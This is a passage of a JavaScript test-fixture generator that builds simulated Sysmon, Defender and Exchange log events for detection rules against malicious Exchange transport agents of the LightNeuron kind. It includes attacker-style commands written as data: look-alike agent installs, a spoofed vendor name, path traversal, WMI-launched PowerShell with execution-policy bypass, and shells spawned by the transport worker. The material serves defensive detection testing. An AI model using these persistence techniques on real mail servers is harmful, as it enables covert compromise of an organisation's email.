  W(R, 'negative', 'powershell.xml', xmlDoc([s4104('2026-11-05T08:07:00.000Z', HOST, "Disable-TransportRule -Identity 'External disclaimer'")]));
}

// ============ MSExchange Management ===============================================================
const ctidParams = `-Name "Connection Filtering Agent" -TransportAgentFactory "Microsoft.Exchange.Transport.Agent.ConnectionFiltering.ConnectionFilteringAgentFactory" -AssemblyPath "${LOOKALIKE}"`;
const LOCAL = { app: 'Local-PowerShell-Unknown', proc: '5120 powershell' };
{
  const R = 'th_exchange_transport_agent_cmdlet_mgmt';
  W(R, 'positive', 'msexchange.jsonl', jsonl([
    mgmt(1, '2026-11-03T10:40:01.250Z', HOST, 'Install-TransportAgent', ctidParams),
    mgmt(3, '2026-11-03T10:40:02.410Z', HOST, 'Enable-TransportAgent', '-Identity "Connection Filtering Agent"', LOCAL),
  ]));
  W(R, 'positive', 'msexchange.xml', xmlDoc([mgmt(1, '2026-11-03T17:00:00.200Z', HOST2, 'Set-TransportAgent', '-Identity "Mail Relay Helper" -Priority "1"')]));
  W(R, 'negative', 'msexchange.jsonl', jsonl([
    mgmt(6, '2026-11-03T10:39:00.000Z', HOST, 'Install-TransportAgent', '-Name "Relay" -AssemblyPath ".\\relay.dll" -TransportAgentFactory "Relay.Factory"', { error: 'System.ArgumentException: The Transport Agent assembly file ".\\relay.dll" doesn\'t exist.\r\nParameter name: AssemblyPath' }),
    mgmt(1, '2026-11-03T10:50:00.000Z', HOST, 'Set-TransportConfig', '-MaxSendSize "35 MB"'),
  ]));
  W(R, 'negative', 'msexchange.xml', xmlDoc([
    mgmt(1, '2026-11-03T10:51:00.000Z', HOST, 'Disable-TransportAgent', '-Identity "Mail Relay Helper" -Confirm:$false'),
    mgmt(1, '2026-11-03T10:52:00.000Z', HOST, 'Uninstall-TransportAgent', '-Identity "Mail Relay Helper" -Confirm:$false'),
  ]));
}
{
  const R = 'th_exchange_transport_agent_cmdlet_mgmt_failed';
  W(R, 'positive', 'msexchange.jsonl', jsonl([
    mgmt(6, '2026-11-03T10:39:00.000Z', HOST, 'Install-TransportAgent', '-Name "Relay" -AssemblyPath ".\\relay.dll" -TransportAgentFactory "Relay.Factory"', { error: 'System.ArgumentException: The Transport Agent assembly file ".\\relay.dll" doesn\'t exist.\r\nParameter name: AssemblyPath' }),
    mgmt(6, '2026-11-03T10:39:30.000Z', HOST, 'Enable-TransportAgent', '-Identity "Relay"', { error: 'System.ArgumentException: Transport agent "Relay" isn\'t found.\r\nParameter name: Identity' }),
  ]));
  W(R, 'positive', 'msexchange.xml', xmlDoc([mgmt(6, '2026-11-03T11:00:00.000Z', HOST2, 'Set-TransportAgent', '-Identity "Relay" -Priority "1"', { error: 'System.ArgumentException: Transport agent "Relay" isn\'t found.\r\nParameter name: Identity' })]));
  W(R, 'negative', 'msexchange.jsonl', jsonl([
    mgmt(1, '2026-11-03T10:40:01.250Z', HOST, 'Install-TransportAgent', ctidParams),
    mgmt(6, '2026-11-03T10:41:00.000Z', HOST, 'New-TransportRule', '-Name "Block exe" -AttachmentExtensionMatchesWords "exe"', { error: 'Microsoft.Exchange.Management.Tasks.ArgumentValidationException: A transport rule with the name "Block exe" already exists.' }),
  ]));
  W(R, 'negative', 'msexchange.xml', xmlDoc([mgmt(6, '2026-11-03T10:42:00.000Z', HOST, 'Uninstall-TransportAgent', '-Identity "Relay"', { error: 'System.ArgumentException: Transport agent "Relay" isn\'t found.\r\nParameter name: Identity' })]));
}
{
  const R = 'th_exchange_transport_agent_removal_mgmt';
  W(R, 'positive', 'msexchange.jsonl', jsonl([
    mgmt(1, '2026-11-05T10:00:02.000Z', HOST, 'Disable-TransportAgent', '-Identity "Connection Filtering Agent" -Confirm:$false'),
    mgmt(1, '2026-11-05T10:00:03.000Z', HOST, 'Uninstall-TransportAgent', '-Identity "Connection Filtering Agent" -Confirm:$false'),
  ]));
  W(R, 'positive', 'msexchange.xml', xmlDoc([mgmt(3, '2026-11-05T12:00:00.000Z', HOST2, 'Uninstall-TransportAgent', '-Identity "Mail Relay Helper"', LOCAL)]));
  W(R, 'negative', 'msexchange.jsonl', jsonl([
    mgmt(6, '2026-11-05T10:05:00.000Z', HOST, 'Uninstall-TransportAgent', '-Identity "Relay"', { error: 'System.ArgumentException: Transport agent "Relay" isn\'t found.\r\nParameter name: Identity' }),
    mgmt(1, '2026-11-05T10:06:00.000Z', HOST, 'Disable-TransportRule', '-Identity "External disclaimer"'),
  ]));
  W(R, 'negative', 'msexchange.xml', xmlDoc([mgmt(1, '2026-11-05T10:07:00.000Z', HOST, 'Enable-TransportAgent', '-Identity "Mail Relay Helper"')]));
}

// ============ image loads ============================================================================
const MS = { signed: 'true', signature: 'Microsoft Corporation', status: 'Valid', company: 'Microsoft Corporation', product: 'Microsoft® Exchange' };
{
  const R = 'th_exchange_transport_untrusted_module_load';
  W(R, 'positive', 'sysmon.jsonl', jsonl([
    s7('2026-11-03T10:41:30.000Z', HOST, { image: EDGE, loaded: LOOKALIKE, signed: 'false', status: 'Unavailable', ofn: 'Microsoft.Exchange.Transport.Agent.ConnectionFiltering.dll' }),
    s7('2026-11-03T10:41:30.100Z', HOST, { image: EDGE, loaded: `${EX}\\bin\\exdbdata.dll`, signed: 'false', status: 'Unavailable' }),
    // signed, but by nobody you trust, and not from a vendor agent folder
    s7('2026-11-03T10:45:00.000Z', HOST, { image: FET, loaded: 'C:\\ProgramData\\MailTools\\MailTools.Agent.dll', signed: 'true', signature: 'Contoso Mail Tools Ltd', status: 'Valid', company: 'Contoso Mail Tools Ltd', user: SYSTEM }),
  ]));
  W(R, 'positive', 'sysmon.xml', xmlDoc([
    // a Microsoft-named agent whose signature no longer matches the file
    s7('2026-11-04T06:00:00.000Z', HOST2, { image: EDGE, loaded: `${HYG}\\Microsoft.Exchange.Transport.Agent.Hygiene.dll`, signed: 'true', signature: 'Microsoft Corporation', status: 'Invalid', company: 'Microsoft Corporation' }),
  ]));
  W(R, 'negative', 'sysmon.jsonl', jsonl([
    s7('2026-11-03T08:31:02.000Z', HOST, { image: EDGE, loaded: `${HYG}\\Microsoft.Exchange.Transport.Agent.Hygiene.dll`, ...MS }),
    s7('2026-11-03T08:31:02.500Z', HOST, { image: EDGE, loaded: 'C:\\Windows\\assembly\\NativeImages_v4.0.30319_64\\Microsoft.Exch5b1c2#\\4f1d0e2a9b3c\\Microsoft.Exchange.Data.Transport.ni.dll', signed: 'false', status: 'Unavailable' }),
    // a vendor agent in its own folder, validly signed by the vendor
    s7('2026-11-03T08:31:03.000Z', HOST, { image: EDGE, loaded: 'C:\\Program Files\\Exchange DkimSigner\\ExchangeDkimSigner.dll', signed: 'true', signature: 'Exchange DkimSigner Project', status: 'Valid' }),
  ]));
  W(R, 'negative', 'sysmon.xml', xmlDoc([
    // not a transport process
    s7('2026-11-03T10:40:00.900Z', HOST, { image: PS, loaded: LOOKALIKE, signed: 'false', status: 'Unavailable', user: ADMIN }),
    s7('2026-11-03T08:31:04.000Z', HOST, { image: EDGE, loaded: 'C:\\Windows\\System32\\ntdll.dll', signed: 'true', signature: 'Microsoft Windows', status: 'Valid', company: 'Microsoft Corporation' }),
  ]));
}
{
  const R = 'th_exchange_transport_module_load_unexpected_path';
  const edge = { image: EDGE, cmd: `"${EDGE}"`, pid: 4412, domain: 'nt authority', account: 'network service', parent: 'MSExchangeTransport.exe' };
  W(R, 'positive', 'defender.csv', csv([
    dLoad('2026-11-03T10:41:30.0000000Z', DHOST, `${EX}\\TransportRoles\\agents\\MailGuard\\MailGuard.Agent.dll`, edge),
    dLoad('2026-11-03T10:41:31.0000000Z', DHOST, 'C:\\ProgramData\\Svc\\helper.dll', edge),
  ]));
  W(R, 'positive', 'defender.json', djson([
    // the public emulation's look-alike (a Microsoft name, in a Microsoft folder)
    dLoad('2026-11-03T10:41:32.0000000Z', DHOST, 'c:\\program files\\microsoft\\exchange server\\v15\\transportroles\\agents\\hygiene\\microsoft.exchange.transport.agent.connectionfiltering.dll', edge),
  ]));
  W(R, 'negative', 'defender.csv', csv([
    dLoad('2026-11-03T08:31:02.0000000Z', DHOST, `${HYG}\\Microsoft.Exchange.Transport.Agent.Hygiene.dll`, edge),
    dLoad('2026-11-03T08:31:02.1000000Z', DHOST, 'C:\\Windows\\System32\\ntdll.dll', edge),
    dLoad('2026-11-03T08:31:02.2000000Z', DHOST, 'C:\\Program Files\\Exchange DkimSigner\\ExchangeDkimSigner.dll', edge),
    dLoad('2026-11-03T08:31:02.3000000Z', DHOST, 'C:\\ProgramData\\Microsoft\\Windows Defender\\Platform\\4.18.24090.11-0\\MpOav.dll', edge),
    dLoad('2026-11-03T08:31:02.4000000Z', DHOST, `${EX}\\Bin\\Newtonsoft.Json.dll`, edge),
  ]));
  W(R, 'negative', 'defender.json', djson([
    // not a transport process
    dLoad('2026-11-03T10:50:00.0000000Z', DHOST, 'C:\\ProgramData\\Svc\\helper.dll', { image: W3WP, cmd: 'w3wp.exe -ap "MSExchangeOWAAppPool"', pid: 8840, parent: 'svchost.exe' }),
  ]));
  // Sysmon reports the signature: the signature rule decides, not this one
  W(R, 'negative', 'sysmon-with-signature.jsonl', jsonl([
    s7('2026-11-03T10:41:33.000Z', HOST, { image: EDGE, loaded: 'C:\\ProgramData\\Svc\\helper.dll', signed: 'false', status: 'Unavailable' }),
  ]));
}

// ============ LightNeuron artefacts, Pickup ==========================================================
{
  const R = 'th_lightneuron_file_artefacts';
  W(R, 'positive', 'sysmon.jsonl', jsonl([
    s11('2026-11-03T10:14:02.000Z', HOST, 'System', `${EX}\\Bin\\winmail.dat`, 4),
    s11('2026-11-03T10:15:03.000Z', HOST, 'System', 'C:\\Windows\\System32\\msiex.ps1', 4),
    s11('2026-11-03T10:16:04.000Z', HOST, 'System', `${NSP}\\Local\\Temp\\msmdat.xml`, 4),
    s11('2026-11-03T13:07:01.000Z', HOST, EDGE, `C:\\Windows\\serviceprofiles\\networkservice\\appdata\\Roaming\\Microsoft\\Windows\\msxfer.dat`, 4412, NETSVC),
    s11('2026-11-03T13:07:02.000Z', HOST, EDGE, `${NSP}\\Local\\Temp\\tmp4C4E`, 4412, NETSVC),
  ]));
  const edge = { image: EDGE, pid: 4412, domain: 'nt authority', account: 'network service', parent: 'MSExchangeTransport.exe' };
  W(R, 'positive', 'defender.csv', csv([
    dFile('2026-11-03T10:13:05.0000000Z', DHOST, 'FileCreated', `${EX}\\Bin\\exdbdata.dll`, { image: 'System', cmd: '', pid: 4 }, { protocol: 'Smb', sourceIp: '10.20.30.41', reqAccount: 'ZilvinasAdmin', reqDomain: 'NK' }),
    dFile('2026-11-03T13:30:00.0000000Z', DHOST, 'FileCreated', `${NSP}\\Roaming\\Microsoft\\Windows\\814ad43-58ab-2cd3-3e68-b82a8f402fd0`, edge),
    dFile('2026-11-03T13:31:00.0000000Z', DHOST, 'FileModified', `${NSP}\\Roaming\\Microsoft\\thumbcache_idx.db`, edge),
    dFile('2026-11-03T13:32:00.0000000Z', DHOST, 'FileCreated', `${NSP}\\Local\\Temp\\msmodl.dat`, edge),
  ]));
  W(R, 'negative', 'sysmon.jsonl', jsonl([
    // Outlook saving a TNEF attachment, Explorer's genuine thumbnail cache
    s11('2026-11-03T09:00:00.000Z', 'WS042.corp.example', 'C:\\Program Files\\Microsoft Office\\root\\Office16\\OUTLOOK.EXE', 'C:\\Users\\jdoe\\AppData\\Local\\Temp\\winmail.dat', 8000, 'CORP\\jdoe'),
    s11('2026-11-03T09:01:00.000Z', 'WS042.corp.example', 'C:\\Windows\\explorer.exe', 'C:\\Users\\jdoe\\AppData\\Local\\Microsoft\\Windows\\Explorer\\thumbcache_idx.db', 3300, 'CORP\\jdoe'),
    // another product's Bin folder
    s11('2026-11-03T09:02:00.000Z', HOST, 'C:\\Program Files\\MailArchiver\\Bin\\archiver.exe', 'C:\\Program Files\\MailArchiver\\Bin\\winmail.dat', 8100),
  ]));
  W(R, 'negative', 'defender.csv', csv([
    dFile('2026-11-03T13:33:00.0000000Z', DHOST, 'FileCreated', `${NSP}\\Local\\Temp\\tmp4C4E.tmp`, edge),
    dFile('2026-11-03T13:34:00.0000000Z', DHOST, 'FileCreated', 'C:\\Users\\exadmin\\Documents\\msmdat.xml.txt', { image: 'C:\\Windows\\System32\\notepad.exe', pid: 9000, domain: 'corp', account: 'exadmin', parent: 'explorer.exe' }),
  ]));
}
{
  const R = 'th_exchange_pickup_eml_by_transport_worker';
  W(R, 'positive', 'sysmon.jsonl', jsonl([
    s11('2026-11-03T13:07:20.000Z', HOST, EDGE, `${EX}\\TransportRoles\\Pickup\\mail1734912.eml`, 4412, NETSVC),
    s11('2026-11-03T13:40:00.000Z', HOST, EDGE, `${EX}\\TransportRoles\\Pickup\\mail1769003.eml`, 4412, NETSVC),
  ]));
  W(R, 'positive', 'defender.csv', csv([
    dFile('2026-11-03T14:00:00.0000000Z', DHOST, 'FileCreated', 'e:\\exchange2016\\transportroles\\pickup\\mail2210456.eml', { image: 'e:\\exchange2016\\bin\\edgetransport.exe', pid: 4412, domain: 'nt authority', account: 'network service', parent: 'MSExchangeTransport.exe' }),
  ]));
  W(R, 'negative', 'sysmon.jsonl', jsonl([
    // an application using the Pickup folder as designed
    s11('2026-11-03T07:00:00.000Z', HOST, PS, `${EX}\\TransportRoles\\Pickup\\daily-report.eml`, 5500, 'CORP\\svc-reports'),
    // the transport writing elsewhere
    s11('2026-11-03T07:01:00.000Z', HOST, EDGE, `${EX}\\TransportRoles\\data\\Queue\\mail.que`, 4412, NETSVC),
  ]));
  W(R, 'negative', 'defender.csv', csv([
    // the transport marking an unreadable pickup file as bad
    dFile('2026-11-03T07:02:00.0000000Z', DHOST, 'FileRenamed', `${EX}\\TransportRoles\\Pickup\\daily-report.bad`, { image: EDGE, pid: 4412, domain: 'nt authority', account: 'network service', parent: 'MSExchangeTransport.exe' }, { previous: `${EX}\\TransportRoles\\Pickup\\daily-report.eml` }),
  ]));
}

// ============ Application log =========================================================================
const appEv = (provider, id, level, t, host, data, q = level === 2 ? 49152 : level === 3 ? 32768 : 16384) => classic('Application', provider, id, q, level, t, host, data);
{
  const R = 'th_exchange_agent_load_failure';
  W(R, 'positive', 'application.jsonl', jsonl([
    appEv('MSExchange Extensibility', 1052, 2, '2026-11-03T10:41:35.000Z', HOST, ['Connection Filtering Agent', 'Microsoft.Exchange.Transport.Agent.ConnectionFiltering.ConnectionFilteringAgentFactory', `System.IO.FileNotFoundException: Could not load file or assembly 'file:///${LOOKALIKE}' or one of its dependencies.`]),
    appEv('MSExchangeTransport', 16023, 2, '2026-11-03T10:41:36.000Z', HOST, ['Microsoft.Exchange.Data.ExchangeConfigurationException: Failed to load the agents configuration file agents.config: The element agentList has invalid child element agnt.']),
  ]));
  W(R, 'positive', 'application.xml', xmlDoc([
    appEv('MSExchangeTransport', 7001, 2, '2026-11-03T10:41:37.000Z', HOST2, [`Failed to create type 'Relay.Factory' from assembly '${EX}\\TransportRoles\\agents\\Relay\\relay.dll' due to error 'Could not load file or assembly'.`]),
  ]));
  W(R, 'negative', 'application.jsonl', jsonl([
    appEv('MSExchange Extensibility', 1050, 3, '2026-11-03T11:00:00.000Z', HOST, ['Exchange DkimSigner', 'OnRoutedMessage', '00:00:00.3000000']),
    appEv('MSExchangeTransport', 7001, 2, '2026-11-03T11:01:00.000Z', HOST, ['Failed to start the Transport service: the configured queue database path is not accessible.']),
  ]));
  W(R, 'negative', 'application.xml', xmlDoc([
    appEv('MSExchangeFrontEndTransport', 12014, 2, '2026-11-03T11:02:00.000Z', HOST, ['Microsoft Exchange could not find a certificate that contains the domain name mail.corp.example in the personal store on the local computer.']),
  ]));
}
{
  const R = 'th_exchange_agent_runtime_warning';
  W(R, 'positive', 'application.jsonl', jsonl([
    appEv('MSExchange Extensibility', 1050, 3, '2026-11-03T11:00:00.000Z', HOST, ['Connection Filtering Agent', 'OnEndOfData', '00:01:30.0000000']),
    appEv('MSExchange Extensibility', 1051, 3, '2026-11-03T11:05:00.000Z', HOST, ['Connection Filtering Agent', 'OnEndOfData', 'System.NullReferenceException: Object reference not set to an instance of an object.']),
  ]));
  W(R, 'positive', 'application.xml', xmlDoc([appEv('MSExchange Extensibility', 1057, 3, '2026-11-03T11:06:00.000Z', HOST2, ['Mail Relay Helper', 'OnSubmittedMessage'])]));
  W(R, 'negative', 'application.jsonl', jsonl([
    appEv('MSExchange Extensibility', 1052, 2, '2026-11-03T10:41:35.000Z', HOST, ['Relay', 'Relay.Factory', 'System.TypeLoadException']),
    appEv('MSExchangeTransport', 1050, 3, '2026-11-03T11:07:00.000Z', HOST, ['unrelated transport event with the same number']),
  ]));
  W(R, 'negative', 'application.xml', xmlDoc([appEv('MSExchange ADAccess', 2080, 4, '2026-11-03T11:08:00.000Z', HOST, ['Process MSExchangeTransport.exe (PID=4412). Exchange Active Directory Provider has discovered the following servers'])]));
}

// ============ System 7036 ===========================================================================
{
  const R = 'th_exchange_transport_service_restart_bb';
  W(R, 'positive', 'system.jsonl', jsonl([
    scm7036('2026-11-03T10:41:20.000Z', HOST, 'Microsoft Exchange Transport', 'running', 'MSExchangeTransport', 4),
    scm7036('2026-11-03T10:41:25.000Z', HOST, 'Microsoft Exchange Frontend Transport', 'running', 'MSExchangeFrontEndTransport', 4),
  ]));
  W(R, 'positive', 'system.xml', xmlDoc([
    // a German server: matched by the service name in the binary data
    scm7036('2026-11-03T10:42:00.000Z', HOST2, 'Microsoft Exchange-Transport', 'Wird ausgeführt', 'MSExchangeTransport', 4),
  ]));
  W(R, 'negative', 'system.jsonl', jsonl([
    scm7036('2026-11-03T10:41:10.000Z', HOST, 'Microsoft Exchange Transport', 'stopped', 'MSExchangeTransport', 1),
    scm7036('2026-11-03T10:41:30.000Z', HOST, 'Microsoft Exchange Transport Log Search', 'running', 'MSExchangeTransportLogSearch', 4),
  ]));
  W(R, 'negative', 'system.xml', xmlDoc([scm7036('2026-11-03T10:42:10.000Z', HOST2, 'Microsoft Exchange-Transport', 'Beendet', 'MSExchangeTransport', 1)]));
}

// ============ WMI install path =======================================================================
{
  const R = 'th_wmiprvse_cmd_powershell_file';
  const WMI = 'C:\\Windows\\System32\\wbem\\WmiPrvSE.exe';
  W(R, 'positive', 'sysmon.jsonl', jsonl([
    s1('2026-11-03T10:39:55.000Z', HOST, { image: CMD, ofn: 'Cmd.Exe', parent: WMI, parentCmd: 'C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding', user: 'NK\\ZilvinasAdmin', cmd: 'cmd.exe /c powershell.exe -File C:\\Windows\\System32\\msiex.ps1 > C:\\Windows\\Temp\\msiexinstallation.log 2>&1' }),
  ]));
  W(R, 'positive', 'defender.csv', csv([
    dProc('2026-11-03T18:00:00.0000000Z', DHOST, PS, 'powershell.exe -ExecutionPolicy Bypass -fil C:\\Windows\\Temp\\update.ps1', { image: WMI, cmd: 'C:\\Windows\\system32\\wbem\\wmiprvse.exe -secured -Embedding', pid: 3900, parent: 'svchost.exe', domain: 'nt authority', account: 'network service' }, { ofn: 'PowerShell.EXE' }),
  ]));
  W(R, 'negative', 'sysmon.jsonl', jsonl([
    s1('2026-11-03T11:00:00.000Z', HOST, { image: CMD, ofn: 'Cmd.Exe', parent: WMI, user: 'CORP\\exadmin', cmd: 'cmd.exe /c ipconfig /all > C:\\Windows\\Temp\\ip.txt' }),
    s1('2026-11-03T11:01:00.000Z', HOST, { image: CMD, ofn: 'Cmd.Exe', parent: 'C:\\Windows\\explorer.exe', cmd: 'cmd.exe /c powershell.exe -File C:\\Scripts\\report.ps1' }),
  ]));
  W(R, 'negative', 'defender.csv', csv([
    dProc('2026-11-03T11:02:00.0000000Z', DHOST, PS, 'powershell.exe -NoProfile -Command "Get-Service MSExchangeTransport | Format-List"', { image: WMI, cmd: 'wmiprvse.exe -secured -Embedding', pid: 3900, parent: 'svchost.exe' }, { ofn: 'PowerShell.EXE' }),
  ]));
}

// ============ correlations ===========================================================================
{
  const R = 'th_exchange_agent_registered_then_worker_shell';
  const install = (t, host) => s1(t, host, { image: PS, ofn: 'PowerShell.EXE', parent: 'C:\\Windows\\explorer.exe', cmd: "powershell.exe -Command \"Add-PSSnapin Microsoft.Exchange.Management.PowerShell.SnapIn; Install-TransportAgent -Name 'Mail Relay Helper' -TransportAgentFactory Relay.Factory -AssemblyPath 'C:\\ProgramData\\Relay\\relay.dll'; Enable-TransportAgent 'Mail Relay Helper'\"" });
  const shell = (t, host) => s1(t, host, { image: CMD, ofn: 'Cmd.Exe', parent: EDGE, user: NETSVC, integrity: 'System', cmd: 'cmd /C ipconfig /all' });
  W(R, 'positive', 'sysmon-same-host-3h.jsonl', jsonl([install('2026-11-06T09:00:00.000Z', HOST), shell('2026-11-06T12:00:00.000Z', HOST)]));
  const edge = { image: EDGE, pid: 4412, parent: 'MSExchangeTransport.exe', domain: 'nt authority', account: 'network service' };
  W(R, 'positive', 'defender-same-host-20h.csv', csv([
    dPs('2026-11-07T01:00:00.0000000Z', "powershell.exe -Command \"Set-TransportAgent -Identity 'Mail Relay Helper' -Priority 1\""),
    dProc('2026-11-07T21:00:00.0000000Z', DHOST, 'C:\\Windows\\System32\\whoami.exe', 'whoami /all', edge, { domain: 'nt authority', account: 'network service', ofn: 'whoami.exe', integrity: 'System' }),
  ]));
  W(R, 'negative', 'sysmon-shell-before-install.jsonl', jsonl([shell('2026-11-06T08:00:00.000Z', HOST), install('2026-11-06T09:00:00.000Z', HOST)]));
  W(R, 'negative', 'sysmon-two-hosts.jsonl', jsonl([install('2026-11-06T09:00:00.000Z', HOST), shell('2026-11-06T10:00:00.000Z', HOST2)]));
  W(R, 'negative', 'sysmon-over-a-day.jsonl', jsonl([install('2026-11-06T09:00:00.000Z', HOST), shell('2026-11-07T09:00:00.001Z', HOST)]));
  W(R, 'negative', 'defender-two-hosts.csv', csv([
    dPs('2026-11-07T01:00:00.0000000Z', "powershell.exe -Command \"Set-TransportAgent -Identity 'Mail Relay Helper' -Priority 1\""),
    dProc('2026-11-07T02:00:00.0000000Z', DHOST2, 'C:\\Windows\\System32\\whoami.exe', 'whoami /all', edge, { domain: 'nt authority', account: 'network service', ofn: 'whoami.exe', integrity: 'System' }),
  ]));
}
{
  const R = 'th_exchange_agent_dll_config_restart';
  const seq = (t0, hosts, gaps) => {
    const at = (min) => new Date(Date.parse(t0) + min * 60_000).toISOString();
    return [
      s11(at(0), hosts[0], 'System', LOOKALIKE, 4),
      s11(at(gaps[0]), hosts[1], 'C:\\Windows\\System32\\wsmprovhost.exe', AGENTS_CONFIG, 6010, 'NK\\svc-mailops'),
      scm7036(at(gaps[1]), hosts[2], 'Microsoft Exchange Transport', 'running', 'MSExchangeTransport', 4),
    ];
  };
  W(R, 'positive', 'same-host-6min.jsonl', jsonl(seq('2026-11-03T10:12:00.000Z', [HOST, HOST, HOST], [5, 6])));
  W(R, 'positive', 'same-host-55min.xml', xmlDoc(seq('2026-11-08T20:00:00.000Z', [HOST2, HOST2, HOST2], [30, 55])));
  W(R, 'negative', 'restart-after-two-hours.jsonl', jsonl(seq('2026-11-03T10:12:00.000Z', [HOST, HOST, HOST], [5, 120])));
  W(R, 'negative', 'two-hosts.xml', xmlDoc(seq('2026-11-08T20:00:00.000Z', [HOST, HOST2, HOST2], [5, 6])));
  // the agent list rewritten before the DLL arrived: wrong order
  W(R, 'negative', 'config-before-dll.jsonl', jsonl((() => { const s = seq('2026-11-09T10:00:00.000Z', [HOST, HOST, HOST], [5, 6]); const t = s[0].time; s[0].time = s[1].time; s[0].named.UtcTime = s[1].named.UtcTime; s[1].time = t; s[1].named.UtcTime = utc(t); return s; })()));
}
// ============ known vendor agents: the registration rules lower them, the vendor rules report them low ============
// Exchange DkimSigner (open source, ships unsigned) and Broadcom/Symantec Mail Security, from the
// folders and names of t1505_vendor_agent_dirs / t1505_vendor_agent_names in data/tuning.
const DKIM_DIR = 'C:\\Program Files\\Exchange DkimSigner';
const DKIM_DLL = `${DKIM_DIR}\\ExchangeDkimSigner.dll`;
const DKIM_FACTORY = 'Exchange.DkimSigner.DkimSigningRoutingAgentFactory';
const SMSMSE_DLL = 'C:\\Program Files\\Symantec\\SMSMSE\\7.5\\Server\\Symantec.MailSecurity.Server.TransportAgent.dll';
const SMSMSE_FACTORY = 'Symantec.MailSecurity.Server.TransportAgent.SMSMSERoutingAgentFactory';
const dkimInstall = `-Name "Exchange DkimSigner" -TransportAgentFactory "${DKIM_FACTORY}" -AssemblyPath "${DKIM_DLL}"`;
const EMS_CLIENT = { proc: '7712 w3wp#MSExchangePowerShellAppPool', caller: 'corp.example/Admins/j.keller' };
// a vendor's name taken by an agent from elsewhere, and a path that climbs out of the vendor folder
const fakeVendorParams = `-Name "Exchange DkimSigner" -TransportAgentFactory "Relay.Factory" -AssemblyPath "C:\\ProgramData\\Relay\\relay.dll"`;
const traversalParams = `-Name "Mail Relay Helper" -TransportAgentFactory "Relay.Factory" -AssemblyPath "${DKIM_DIR}\\..\\..\\..\\ProgramData\\Relay\\relay.dll"`;
// the vendor's folder name recreated where anyone with a foothold can write
const lookalikeFolderParams = `-Name "SMSMSERoutingAgent" -TransportAgentFactory "${SMSMSE_FACTORY}" -AssemblyPath "C:\\ProgramData\\Symantec\\SMSMSE\\Symantec.MailSecurity.Server.TransportAgent.dll"`;
{
  const R = 'th_exchange_transport_agent_cmdlet_mgmt';
  W(R, 'positive', 'vendor-name-or-folder-misused.jsonl', jsonl([
    mgmt(1, '2026-11-04T10:00:00.000Z', HOST, 'Install-TransportAgent', fakeVendorParams, EMS_CLIENT),
    mgmt(1, '2026-11-04T10:01:00.000Z', HOST, 'Install-TransportAgent', traversalParams, EMS_CLIENT),
    mgmt(1, '2026-11-04T10:02:00.000Z', HOST, 'Install-TransportAgent', lookalikeFolderParams, EMS_CLIENT),
  ]));
  W(R, 'negative', 'vendor-agent.jsonl', jsonl([
    mgmt(1, '2026-11-03T10:12:00.000Z', HOST, 'Install-TransportAgent', dkimInstall, EMS_CLIENT),
    mgmt(1, '2026-11-03T10:12:40.000Z', HOST, 'Enable-TransportAgent', '-Identity "Exchange DkimSigner"', EMS_CLIENT),
  ]));
  W(R, 'negative', 'vendor-agent.xml', xmlDoc([
    mgmt(1, '2026-11-03T11:00:00.000Z', HOST2, 'Install-TransportAgent', `-Name "SMSMSERoutingAgent" -TransportAgentFactory "${SMSMSE_FACTORY}" -AssemblyPath "${SMSMSE_DLL}"`, EMS_CLIENT),
    mgmt(1, '2026-11-03T11:00:30.000Z', HOST2, 'Set-TransportAgent', '-Identity "SMSMSERoutingAgent" -Priority "3"', EMS_CLIENT),
  ]));
}
{
  const R = 'th_exchange_vendor_agent_cmdlet_mgmt';
  W(R, 'positive', 'msexchange.jsonl', jsonl([
    mgmt(1, '2026-11-03T10:12:00.000Z', HOST, 'Install-TransportAgent', dkimInstall, EMS_CLIENT),
    mgmt(1, '2026-11-03T10:12:40.000Z', HOST, 'Enable-TransportAgent', '-Identity "Exchange DkimSigner"', EMS_CLIENT),
  ]));
  W(R, 'positive', 'msexchange.xml', xmlDoc([
    mgmt(3, '2026-11-03T11:00:00.000Z', HOST2, 'Install-TransportAgent', `-Name "SMSMSERoutingAgent" -TransportAgentFactory "${SMSMSE_FACTORY}" -AssemblyPath "${SMSMSE_DLL}"`, LOCAL),
    mgmt(1, '2026-11-03T11:00:30.000Z', HOST2, 'Set-TransportAgent', '-Identity "SMSMSERoutingAgent" -Priority "3"', EMS_CLIENT),
  ]));
  W(R, 'negative', 'msexchange.jsonl', jsonl([
    mgmt(1, '2026-11-04T10:00:00.000Z', HOST, 'Install-TransportAgent', fakeVendorParams, EMS_CLIENT),
    mgmt(1, '2026-11-04T10:01:00.000Z', HOST, 'Install-TransportAgent', traversalParams, EMS_CLIENT),
    mgmt(1, '2026-11-04T10:02:00.000Z', HOST, 'Install-TransportAgent', lookalikeFolderParams, EMS_CLIENT),
    mgmt(1, '2026-11-03T10:40:01.250Z', HOST, 'Install-TransportAgent', ctidParams),
  ]));
  W(R, 'negative', 'msexchange.xml', xmlDoc([
    // removal and failure are other rules'
    mgmt(1, '2026-11-05T09:00:00.000Z', HOST, 'Disable-TransportAgent', '-Identity "Exchange DkimSigner" -Confirm:$false', EMS_CLIENT),
    mgmt(6, '2026-11-05T09:01:00.000Z', HOST, 'Install-TransportAgent', dkimInstall, { ...EMS_CLIENT, error: 'System.ArgumentException: Transport agent "Exchange DkimSigner" already exists.\r\nParameter name: Name' }),
  ]));
}
{
  const vendorModule = [
    m4103('2026-11-03T10:12:00.000Z', HOST, 'Install-TransportAgent', [['Name', 'Exchange DkimSigner'], ['TransportAgentFactory', DKIM_FACTORY], ['AssemblyPath', DKIM_DLL]]),
    m4103('2026-11-03T10:12:40.000Z', HOST, 'Enable-TransportAgent', [['Identity', 'Exchange DkimSigner']]),
  ];
  const vendorModule2 = [m4103('2026-11-03T11:00:30.000Z', HOST2, 'Set-TransportAgent', [['Identity', 'SMSMSERoutingAgent'], ['Priority', '3']])];
  const misused = [
    m4103('2026-11-04T10:00:00.000Z', HOST, 'Install-TransportAgent', [['Name', 'Exchange DkimSigner'], ['TransportAgentFactory', 'Relay.Factory'], ['AssemblyPath', 'C:\\ProgramData\\Relay\\relay.dll']]),
    m4103('2026-11-04T10:01:00.000Z', HOST, 'Install-TransportAgent', [['Name', 'Mail Relay Helper'], ['TransportAgentFactory', 'Relay.Factory'], ['AssemblyPath', `${DKIM_DIR}\\..\\..\\..\\ProgramData\\Relay\\relay.dll`]]),
  ];
  // one pipeline enabling the vendor's agent and another
